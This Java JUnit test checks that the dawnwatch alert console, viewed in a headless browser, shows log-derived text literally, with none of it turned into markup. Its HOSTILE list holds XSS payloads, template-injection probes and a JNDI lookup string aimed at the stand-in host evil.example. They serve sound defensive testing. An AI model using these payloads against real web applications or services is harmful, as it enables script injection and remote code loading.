package io.dawnwatch.tests.console;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import io.dawnwatch.engine.Model;
import io.dawnwatch.schemas.Alert;
import io.dawnwatch.schemas.AlertState;
import io.dawnwatch.schemas.Evidence;
import io.dawnwatch.schemas.Reason;
import io.dawnwatch.schemas.Score;
import io.dawnwatch.schemas.Verdict;
import io.dawnwatch.schemas.VerdictKind;
import io.dawnwatch.tests.interop.NodeScript;
import io.dawnwatch.tests.topology.EmbeddedStack;
import io.dawnwatch.topology.console.Console;
import io.dawnwatch.topology.console.index.Indexed;
import io.dawnwatch.topology.console.web.ConsoleSettings;
import io.dawnwatch.topology.console.web.Person;
import io.dawnwatch.topology.console.web.Role;
import io.dawnwatch.topology.kafka.Cluster;
import io.dawnwatch.topology.lifecycle.Clock;
import io.dawnwatch.topology.lifecycle.FeedbackTopic;
import java.io.IOException;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse.BodyHandlers;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.ZoneId;
import java.util.ArrayList;
import java.util.List;
import java.util.Optional;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.condition.EnabledIf;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.api.io.TempDir;

/** The console as its reader has it: in a browser, with logs that want to be more than text. */
@Timeout(180)
@ExtendWith(EmbeddedStack.class)
@EnabledIf(
    value = "isInstalled",
    disabledReason =
        "needs Node 20, npm ci --prefix tests/interop, and chromium (on the PATH or in CHROMIUM)")
class ConsoleBrowserTest {
  private static final ObjectMapper JSON = new ObjectMapper();

  private static final List<String> HOSTILE =
      List.of(
          "<script>window.pwned=1</script>",
          "\"><img src=x onerror=window.pwned=1>",
          "' onmouseover='window.pwned=1",
          "</script><script>window.pwned=1</script>",
          "</title><base href=//evil.example><svg onload=window.pwned=1>",
          "javascript:window.pwned=1",
          "<a href=//evil.example>{{7*7}} ${7*7} {% raw %} ${jndi:ldap://evil.example/a}</a>");

  static boolean isInstalled() throws InterruptedException {
    return NodeScript.isInstalled() && (System.getenv("CHROMIUM") != null || isOnPath());
  }

  private static boolean isOnPath() {
    return Stream.of(System.getenv().getOrDefault("PATH", "").split(":"))
        .anyMatch(
            folder ->
                Files.isExecutable(Path.of(folder, "chromium"))
                    || Files.isExecutable(Path.of(folder, "chromium-browser")));
  }

  @Test
  void nothingALogSaysBecomesMarkupAndAVerdictReachesItsTopic(
      Cluster cluster, @TempDir Path folder) throws Exception {
    try (ConsoleTopics topics = new ConsoleTopics(cluster, "browser", Clock.BROKER)) {
      String alert = fill(topics);
      try (Console console =
          Console.start(
              cluster,
              topics.dataset(),
              folder.resolve("index.sqlite").toString(),
              Indexed.DEFAULT,
              new ConsoleSettings(
                  "127.0.0.1",
                  0,
                  Optional.empty(),
                  Optional.empty(),
                  new Person(HOSTILE.get(1), Role.REVIEWER),
                  ZoneId.of("Europe/Berlin"),
                  System::currentTimeMillis),
              line -> {})) {
        String base = "http://127.0.0.1:" + console.port();
        await("the alert is indexed")
            .atMost(Duration.ofSeconds(60))
            .until(() -> status(base + "/alerts/" + alert) == 200);

        List<String> arguments = new ArrayList<>(List.of(base, "/alerts/" + alert));
        arguments.addAll(HOSTILE);
        List<String> said = NodeScript.run("console.mjs", arguments.toArray(new String[0]));
        JsonNode found = JSON.readTree(said.get(said.size() - 1));

        assertThat(found.get("injected")).isEmpty();
        assertThat(found.get("foreign")).isEmpty();
        assertThat(found.get("complaints")).as(found.toString()).isEmpty();
        assertThat(found.get("wide")).isEmpty();
        assertThat(found.get("control").toString()).contains("img", "script");
        assertThat(texts(found.get("shown"))).containsAll(HOSTILE);
        assertThat(texts(found.get("pages")))
            .allMatch(page -> page.startsWith("200 "))
            .contains(
                "200 /",
                "200 /alerts",
                "200 /alerts/ID",
                "200 /review",
                "200 /entities",
                "200 /entities/ID",
                "200 /models",
                "200 /models/ID",
                "200 /drift",
                "200 /runs");
        assertThat(found.get("charts").intValue()).isGreaterThan(2);
        assertThat(found.get("told").textValue()).startsWith("Noted");
        assertThat(found.get("pill").textValue()).contains("false", HOSTILE.get(1));

        assertThat(new FeedbackTopic(cluster, topics.dataset(), topics.ids()).all())
            .singleElement()
            .returns(VerdictKind.FALSE, Verdict::getKind)
            .returns(HOSTILE.get(1), Verdict::getBy)
            .returns(HOSTILE.get(0), Verdict::getNote);
      }
    }
  }

  /** An hour of an entity for each text, all of whose words are that text; gives an alert. */
  private static String fill(ConsoleTopics topics) {
    long from = System.currentTimeMillis() / ConsoleTopics.MINUTE * ConsoleTopics.MINUTE
        - 90 * ConsoleTopics.MINUTE;
    List<Score> scores = new ArrayList<>();
    List<Alert> alerts = new ArrayList<>();
    for (int text = 0; text < HOSTILE.size(); text++) {
      String says = HOSTILE.get(text);
      for (int minute = 0; minute < 60; minute++) {
        Score score =
            topics.score(
                1_000L * text + minute,
                says,
                from + minute * ConsoleTopics.MINUTE,
                minute == 40 ? 0.97 : 0.2);
        score.setReasons(List.of(new Reason(says, 3.0, 1.0, 9.0, says)));
        score.setEvidence(List.of(new Evidence(says, 0, 7L, "00ff00ff00ff00ff", says)));
        score.setModelId(Model.COLD_START.id());
        scores.add(score);
        if (minute == 40) {
          alerts.add(topics.alert(ConsoleTopics.id(900_000 + text), AlertState.OPENED, score, 1));
        }
      }
    }
    topics.scores(scores);
    topics.alerts(alerts);
    return alerts.get(0).getId();
  }

  private static int status(String url) throws IOException, InterruptedException {
    return HttpClient.newHttpClient()
        .send(HttpRequest.newBuilder(URI.create(url)).build(), BodyHandlers.discarding())
        .statusCode();
  }

  private static List<String> texts(JsonNode array) {
    List<String> texts = new ArrayList<>();
    array.forEach(one -> texts.add(one.textValue()));
    return texts;
  }
}
